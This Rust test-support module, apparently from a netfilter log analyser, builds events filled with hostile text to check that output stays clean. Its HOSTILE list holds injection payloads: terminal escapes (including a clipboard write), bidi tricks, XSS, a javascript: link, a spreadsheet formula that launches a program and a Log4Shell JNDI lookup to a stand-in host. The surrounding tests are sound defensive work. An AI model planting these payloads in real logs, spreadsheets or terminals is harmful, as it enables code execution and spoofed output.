//! What the tests share: adversaries' texts, events that carry them, what must never come out.

#![allow(dead_code, reason = "each test takes what it needs")]
#![allow(clippy::unwrap_used, reason = "a test may stop")]

use rutter_analysis::profile::{moment_of, settle};
use rutter_analysis::{Home, Profile, Signature, Subject, Verdict, judge};
use rutter_event::{
    Action, Direction, Event, Extra, Icmp, Mac, Observer, Packet, Stamp, Timestamp, Transport,
    Untrusted,
};
use rutter_knowledge::Knowledge;
use rutter_knowledge::notation::expand;

/// Texts that try to leave the place they are given.
pub(crate) const HOSTILE: &[&[u8]] = &[
    b"\x1b]0;title\x07",
    b"\x1b[2J\x1b[31mred",
    b"\x1b]52;c;aGk=\x1b\\",
    b"\x1bP1$tx\x1b\\ \x1b_apc\x1b\\ \x1b^pm\x1b\\",
    b"\x9b31m\xc2\x9b31m\x90\x9c",
    b"a\rb\nc\x08\x0b\x0c\x00\x7f",
    "\u{202e}evil\u{2066}\u{2069}\u{200b}\u{feff}\u{e0041}\u{2028}\u{2029}".as_bytes(),
    b"\xff\xfe\xc3(\xf0\x9f\x98",
    "z\u{300}\u{301}\u{302}\u{303}\u{304}".as_bytes(),
    b"<script>alert('1')</script>\"&`",
    b"\"},{\"a\":\"b\\",
    b"=cmd|'/c calc'!A1",
    b"+1+1,\"x\"\r\n-2",
    b"@SUM(A1)",
    "\u{ff1d}1+1".as_bytes(),
    b"\t=1",
    b"| a | b |\n# title\n[x](javascript:alert(1)) ![](http://198.51.100.1/) **b**",
    b"%s%n%x {0} ${jndi:ldap://198.51.100.1/a}",
];

/// Characters that no output may carry raw, apart from the line ends that we write.
pub(crate) fn is_forbidden(c: char) -> bool {
    let c = c as u32;
    matches!(c, 0..=9 | 0xb..=0x1f | 0x7f..=0x9f | 0xad | 0x61c | 0x200b..=0x200f | 0x2028..=0x202e
        | 0x2060..=0x206f | 0xfe00..=0xfe0f | 0xfeff | 0xfff0..=0xfffb | 0x300..=0x36f | 0xe0000..=0xe0fff)
}

/// Text without the colours that we write: `ESC [ digits and semicolons m`, nothing else.
pub(crate) fn without_colours(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find("\x1b[") {
        out.push_str(&rest[..at]);
        let behind = &rest[at + 2..];
        let end = behind
            .find(|c: char| !c.is_ascii_digit() && c != ';')
            .unwrap();
        assert!(
            behind[end..].starts_with('m'),
            "an escape sequence that is no colour: {:?}",
            &behind[..end]
        );
        rest = &behind[end + 1..];
    }
    out.push_str(rest);
    out
}

/// An event whose every text field is `text`, and every number set.
pub(crate) fn full_event(text: &[u8]) -> Event<'_> {
    let text = Untrusted::new(text);
    let mut packet = Packet {
        transport: Some(Transport::TCP),
        ..Packet::default()
    };
    packet.family = rutter_event::Family::V4;
    for (end, ip, port) in [
        (&mut packet.source, "198.51.100.7", 1433),
        (&mut packet.destination, "203.0.113.9", 23),
    ] {
        end.ip = Some(ip.parse().unwrap());
        end.port = Some(port);
        end.mac = Some(Mac([0, 0x11, 0xaa, 0xbb, 0xcc, 0xff]));
        end.nat_ip = Some("2001:db8::1".parse().unwrap());
        end.nat_port = Some(1024);
    }
    packet.tcp.flags = Some(rutter_event::TcpFlags::SYN);
    packet.tcp.window = Some(1024);
    packet.tcp.seq = Some(1);
    packet.tcp.ack = Some(0);
    packet.tcp.urgent = Some(0);
    packet.tcp.mss = Some(1460);
    packet.tcp.options_length = Some(4);
    packet.ttl = Some(241);
    packet.id = Some(54_321);
    packet.length = Some(44);
    packet.tos = Some(0);
    packet.flow_label = Some(1);
    packet.fragment.dont = Some(true);
    packet.fragment.offset = 185;
    packet.payload_length = Some(0);
    let quoted = packet;
    packet.icmp = Icmp {
        kind: Some(3),
        code: Some(1),
        id: Some(1),
        sequence: Some(1),
        mtu: Some(1_400),
        gateway: Some("192.0.2.1".parse().unwrap()),
    };
    Event {
        answer: None,
        format: "netfilter",
        stamp: Stamp::Absent,
        time: Timestamp::from_seconds(1_795_435_200, 120_000_000),
        action: Action::Dropped,
        direction: Direction::Inbound,
        packet,
        quoted: Some(quoted),
        observer: Observer {
            vendor: "Linux",
            product: "netfilter",
            hostname: text,
            ingress: text,
            egress: text,
            ingress_zone: text,
            egress_zone: text,
        },
        rule: text,
        rule_id: text,
        bytes: Some(44),
        packets: Some(1),
        duration: Some(1_000),
        application: text,
        client: text,
        user: text,
        payload: text.bytes(),
        payload_digits: &[],
        extra: Extra::new(text.bytes(), |record, sink| {
            sink(Untrusted::new(b"MARK"), Untrusted::new(record));
            sink(Untrusted::new(record), Untrusted::new(b"0x1"));
            sink(Untrusted::new(record), Untrusted::new(record));
        }),
    }
}

/// Calls `each` with every event of some notation and its verdicts, the earlier ones being its past;
/// gives back the sum of all.
pub(crate) fn play(
    notation: &[&str],
    home: &Home,
    each: &mut dyn FnMut(&Event<'_>, &[Verdict<'_>]),
) -> Profile {
    let knowledge = Knowledge::embedded();
    let mut profile = Profile::empty();
    for sample in expand(notation).unwrap() {
        let mut event = Event {
            format: "netfilter",
            time: Some(sample.time),
            action: sample.action,
            packet: sample.packet,
            quoted: sample.quoted,
            payload: &sample.payload,
            application: Untrusted::new(sample.application.as_bytes()),
            client: Untrusted::new(sample.client.as_bytes()),
            ..Event::default()
        };
        settle(&mut event, home);
        profile.observe(&event, knowledge);
        let subject = Subject::of(&event);
        let signature = Signature::of(&subject, knowledge);
        let past = profile.past(&subject, &signature, moment_of(&event));
        let verdicts = judge(knowledge, &subject, &past.seen, &past);
        each(&event, &verdicts);
    }
    profile
}
